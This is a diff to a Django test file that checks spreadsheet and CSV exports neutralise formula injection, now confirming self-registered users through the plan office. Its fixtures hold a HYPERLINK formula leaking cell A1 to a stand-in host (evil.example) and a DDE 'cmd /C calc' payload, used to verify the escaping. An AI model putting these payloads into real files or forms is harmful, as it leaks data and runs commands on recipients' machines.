@@ -22,8 +22,9 @@ pytestmark = pytest.mark.django_db
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 
 
-def _register(name: str, uscc: str) -> Any:
+def _register(name: str, uscc: str, plan_office: Any) -> Any:
     from ipcity.accounts.models import User
+    from ipcity.accounts.services import user_confirm_entity
 
     response = Client().post(
         "/accounts/register/",
@@ -41,7 +42,8 @@ def _register(name: str, uscc: str) -> Any:
         },
     )
     assert response.status_code == 302, response.content
-    user = User.objects.get(username="formula")
+    # A self-registration waits for the plan office (ADR 0006); confirm it as the office would.
+    user = user_confirm_entity(actor=plan_office, user=User.objects.get(username="formula"))
     assert user.entity is not None and user.entity.name == name  # stored as typed
     return user
 
@@ -61,7 +63,7 @@ def _csv(response: Any) -> list[list[str]]:
 def test_an_anonymous_entity_name_and_an_applicants_subject_stay_text_in_the_applications_xlsx(
     world: World,
 ) -> None:
-    applicant = _register(LINK, _uscc())
+    applicant = _register(LINK, _uscc(), world.plan_office)
     app = world.submitted(applicant=applicant, subject="-2+3+cmd|' /C calc'!A0")
     response = _as(world.plan_office).get(f"/grants/calls/{world.call.pk}/export/applications.xlsx")
     assert response.status_code == 200
@@ -76,7 +78,7 @@ def test_an_anonymous_entity_name_and_an_applicants_subject_stay_text_in_the_app
 
 
 def test_the_entity_csv_and_the_audit_csv_quote_text_that_would_run(world: World) -> None:
-    applicant = _register(LINK, _uscc())
+    applicant = _register(LINK, _uscc(), world.plan_office)
     entity = Entity.objects.get(pk=applicant.entity_id)
     rows = _csv(_as(world.plan_office).get("/orgs/entities/export.csv", {"q": entity.uscc}))
     (row,) = [r for r in rows[1:] if r[0] == entity.uscc]
